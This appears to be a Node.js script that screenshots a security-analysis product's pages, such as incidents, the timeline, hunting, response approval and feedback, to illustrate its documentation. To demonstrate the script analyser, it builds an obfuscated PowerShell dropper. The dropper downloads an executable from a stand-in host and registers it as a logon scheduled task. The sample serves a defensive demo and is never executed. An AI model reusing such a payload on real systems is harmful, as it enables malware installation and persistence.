import { mkdirSync } from 'node:fs';
import { join } from 'node:path';
import { root } from './node.mjs';
import { findChromium, launch, openPage, signIn } from '../tests/browser/support/browser.mjs';
import { startStandalone } from '../tests/browser/support/standalone.mjs';

/** Takes the pictures of docs/pictures from the running product with its sample incidents. Needs Chromium and a build. */
if (!findChromium()) {
  process.stderr.write('No Chromium was found. Install it or set CHROMIUM_PATH.\n');
  process.exit(1);
}
const folder = join(root, 'docs/pictures');
mkdirSync(folder, { recursive: true });

/** The sample with the most to show: alerts, telemetry that no alert shows, and a story across both. */
const sample = 'DefenseEvasion';

const product = await startStandalone();
const browser = await launch();
try {
  const shoot = async (name, path, { colorScheme = 'light', act, width = 1440, height = 960 } = {}) => {
    const { page, close } = await openPage(browser, product.url, { colorScheme, viewport: { width, height }, reducedMotion: 'reduce' });
    await signIn(page, product.url, product.user, product.password);
    await page.locator('[data-incident]').first().waitFor();
    const id = await page.locator('[data-incident]', { hasText: sample }).first().getAttribute('data-incident');
    await page.goto(product.url + path.replace(':id', encodeURIComponent(id)));
    if (path.includes(':id')) await page.getByTestId('summary-card').or(page.getByRole('list', { name: 'Timeline' })).or(page.getByTestId('response-card')).first().waitFor({ timeout: 60_000 });
    await act?.(page);
    await page.waitForTimeout(900);
    await page.screenshot({ path: join(folder, `${name}.png`) });
    await close();
    process.stdout.write(`docs/pictures/${name}.png\n`);
  };
  await shoot('queue', '/', { height: 560 });
  await shoot('summary', '/incidents/:id');
  await shoot('summary-dark', '/incidents/:id', { colorScheme: 'dark' });
  await shoot('citation', '/incidents/:id', { act: (page) => page.getByTestId('summary-card').locator('[data-section="story"] [data-fact]').first().click() });
  await shoot('timeline', '/incidents/:id/timeline');
  const inner = "$u = 'http://cdn.exam'+'ple.test/get/update.exe'; (New-Object Net.WebClient).DownloadFile($u, \"$env:TEMP\\upd.exe\"); schtasks /create /tn Updater /tr \"$env:TEMP\\upd.exe\" /sc onlogon /f";
  const script = `@echo off\r\nset a=power\r\nset b=shell\r\n%a%%b% -nop -w hidden -enc ${Buffer.from(`IEX ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('${Buffer.from(inner).toString('base64')}')))`, 'utf16le').toString('base64')}\r\n`;
  const submit = async (page) => {
    await page.getByRole('textbox', { name: 'Script' }).fill(script);
    await page.getByRole('button', { name: 'Analyze', exact: true }).click();
    await page.getByRole('region', { name: 'Facts' }).waitFor({ timeout: 30_000 });
  };
  await shoot('script', '/scripts', { act: submit });
  await shoot('script-dark', '/scripts', { colorScheme: 'dark', act: submit });
  await shoot('scripts', '/scripts');
  const hunt = async (page) => {
    await page.getByRole('textbox', { name: 'Ask a question' }).fill('How many processes did powershell.exe start, by device?');
    await page.keyboard.press('Enter');
    const answer = page.getByRole('article', { name: 'Answer' });
    await answer.getByRole('button', { name: 'Run', exact: true }).click({ timeout: 60_000 });
    await page.getByRole('grid', { name: 'Rows found' }).waitFor({ timeout: 60_000 });
    await answer.getByRole('button', { name: 'Confirmed' }).waitFor({ timeout: 60_000 });
    await page.evaluate(() => globalThis.scrollTo(0, 0));
  };
  await shoot('hunt', '/hunt', { act: hunt, height: 1120 });
  await shoot('hunt-dark', '/hunt', { colorScheme: 'dark', act: hunt, height: 1120 });
  const respond = async (page) => {
    const card = page.locator('[data-recommendation="isolateDevice"]').first();
    if (await card.locator('header [data-state="PROPOSED"]').count()) {
      await card.getByRole('button', { name: /^Approve/ }).click();
      await page.getByRole('dialog').getByRole('textbox', { name: 'Reason' }).fill('Hands on keyboard');
      await page.getByRole('dialog').getByRole('button', { name: 'Approve', exact: true }).click();
    }
    await card.locator('header [data-state="CONFIRMED"]').waitFor({ timeout: 60_000 });
    await page.evaluate(() => globalThis.scrollTo(0, 0));
  };
  await shoot('response', '/incidents/:id/response', { act: respond, height: 1160 });
  await shoot('actions', '/actions');
  const say = async (page) => {
    await page.getByRole('button', { name: 'Off-target, inaccurate' }).click({ timeout: 60_000 });
    const dialog = page.getByRole('dialog');
    await dialog.getByRole('checkbox', { name: 'The verdict is wrong' }).check();
    await dialog.getByRole('group', { name: 'Which statements' }).getByRole('checkbox').nth(1).check();
    await dialog.getByRole('textbox', { name: /^What is right instead of/ }).fill('It reached Execution and Discovery. Command and Control was our own scanner.');
    await dialog.getByRole('textbox', { name: 'In your words' }).fill('10.0.5.13 is the scanner of the red team.');
  };
  await shoot('feedback', '/incidents/:id', { act: say });
  const { incidents } = await product.graphql('{ incidents(first: 50) { nodes { summary { id } guidedResponse { id } } } }');
  const cards = incidents.nodes.flatMap(({ summary, guidedResponse }) => [summary?.id, guidedResponse?.id]).filter(Boolean);
  for (const [index, cardId] of cards.entries()) {
    const verdict = index % 9 === 4 ? 'OFF_TARGET' : index % 13 === 7 ? 'HARMFUL' : 'CONFIRMED';
    await product.graphql('mutation ($input: GiveFeedbackInput!) { giveFeedback(input: $input) { id } }', { input: { cardId, verdict } });
  }
  const counted = async (page) => {
    const votes = page.locator('[data-figure="Votes"] dd');
    for (let turn = 0; turn < 60 && (await votes.textContent({ timeout: 60_000 })) !== String(cards.length); turn += 1) {
      await page.waitForTimeout(1_000);
      await page.reload();
    }
  };
  await shoot('evaluation', '/evaluation', { act: counted });
  await shoot('phone', '/incidents/:id', { width: 390, height: 844 });
} finally {
  await browser.close();
  await product.stop();
}
